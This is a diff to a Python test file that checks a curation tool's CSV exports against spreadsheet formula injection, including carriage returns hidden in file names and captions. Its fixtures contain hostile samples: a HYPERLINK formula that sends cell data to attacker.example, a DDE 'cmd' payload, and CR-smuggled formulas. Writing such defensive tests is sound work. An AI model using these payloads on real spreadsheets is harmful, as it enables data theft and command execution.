@@ -4,6 +4,7 @@ numbers stay numbers."""
 
 import csv
 import io
+import re
 import zipfile
 
 import numpy as np
@@ -18,15 +19,23 @@ from curation.cli import cli
 from curation.export import ExportSettings, export
 
 from conftest import small_pdf
+from test_export_cli import record_scores, repeated_scan_pdf
 
 LINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")'
 CAPTION = '=HYPERLINK("http://attacker.example/")'  # no comma: the caption template splits on commas
 
 
-@pytest.mark.parametrize("text", [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+@pytest.mark.parametrize("text", [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
                                   "-", "=", "-inf"])
 def test_a_formula_like_cell_gets_a_leading_apostrophe(text):
     assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text, safe", [("\r=1+1", "'\r'=1+1"), ("a\r=2+5*7\r", "a\r'=2+5*7\r"),
+                                        ("a\n@SUM(A1)\r\n-x", "a\n'@SUM(A1)\r\n'-x"), ("a\r-3.5", "a\r-3.5"),
+                                        ("a\x0b=1\x1cb\u2028c\x85", "a\ufffd=1\ufffdb\ufffdc\ufffd")])
+def test_every_line_of_a_cell_is_guarded_and_other_control_characters_replaced(text, safe):
+    assert safe_cell(text) == safe
 
 
 @pytest.mark.parametrize("value", ["-3.5", "+2", "1e-3", "-1E+6", "-.5", "42", -3.5, 7, None, "",
@@ -59,6 +68,62 @@ def test_export_manifest_csv_neutralises_a_formula_caption(tmp_path):
     assert sorted(row["caption"] for row in rows) == [f"'{CAPTION}, ohwx"] * 4
     assert all(float(row["sigma"]) > 0 and int(row["width"]) > 0 for row in rows)  # numbers stay numbers
     assert f"{CAPTION}, ohwx" in captions  # the trainer's own caption files are not touched
+
+
+CR_NAME = "issue\r=2+5*7\r"  # LibreOffice ran the formula when \r went out unquoted
+STARTS_A_FORMULA = re.compile(r'"?[=+\-@\t]')
+
+
+def physical_lines(text: str) -> list[str]:
+    """The file's lines as any reader may split them: at CR, LF or both."""
+    return re.split(r"\r\n|\r|\n", text)
+
+
+def assert_no_line_starts_a_formula(text: str) -> None:
+    assert not [line for line in physical_lines(text) if STARTS_A_FORMULA.match(line)], physical_lines(text)
+
+
+def test_a_carriage_return_in_a_file_name_round_trips_through_manifest_csv(tmp_path):
+    pdf = repeated_scan_pdf(tmp_path / f"{CR_NAME}.pdf", 2)
+    with Manifest(tmp_path / "manifest.sqlite") as manifest:
+        record_scores(manifest, pdf, [60, 70])
+        manifest.set_caption(1, 0, "line one\r-line two")
+        export(manifest, tmp_path / "lora.zip", ExportSettings(size=256, template="{trigger}, {caption}"))
+    with zipfile.ZipFile(tmp_path / "lora.zip") as z:
+        text = z.read("manifest.csv").decode()
+    rows = read_csv(text)
+    assert len(rows) == 2 and [row["page"] for row in rows] == ["1", "2"]  # no row split at the \r
+    assert {row["document"] for row in rows} == {str(pdf.resolve()).replace("\r=", "\r'=")}
+    assert rows[0]["curator_caption"] == "line one\r'-line two" and rows[0]["caption"] == "ohwx, line one -line two"
+    assert float(rows[0]["sigma"]) == 60
+    assert_no_line_starts_a_formula(text)
+
+
+def test_a_carriage_return_in_a_photo_name_round_trips_through_the_vet_csv(tmp_path):
+    model = inference.write_demo_model(tmp_path / "demo-vit")
+    photos = tmp_path / "photos"
+    photos.mkdir()
+    pixels = np.random.default_rng(0).integers(0, 256, (64, 64, 3), dtype=np.uint8)
+    Image.fromarray(pixels).save(photos / "cow.png")
+    Image.fromarray(pixels).save(photos / f"{CR_NAME}.png", format="PNG")
+    text = inference.rows_to_csv(inference.classify_folder(photos, model, top_k=1))
+    rows = read_csv(text)
+    assert sorted(row["file"] for row in rows) == ["cow.png", "issue\r'=2+5*7\r.png"]
+    assert all(0 <= float(row["score_1"]) <= 1 for row in rows)
+    assert_no_line_starts_a_formula(text)
+
+
+def test_a_carriage_return_round_trips_through_the_cli_csv(tmp_path, archive):
+    db = tmp_path / "m.sqlite"
+    with Manifest(db) as manifest:
+        ingest(manifest, [archive], workers=1)
+        manifest.set_document(1, status="failed", error="cannot read\r=2+5*7\r")
+    result = CliRunner().invoke(cli, ["docs", "--db", str(db), "--format", "csv"], catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    rows = read_csv(result.output)
+    assert [row["error"] for row in rows] == ["cannot read\r'=2+5*7\r", "", ""]
+    assert [int(row["pages"]) for row in rows] == [4, 5, 6]
+    assert_no_line_starts_a_formula(result.output)
 
 
 def test_vet_batch_csv_neutralises_formula_file_names(tmp_path):
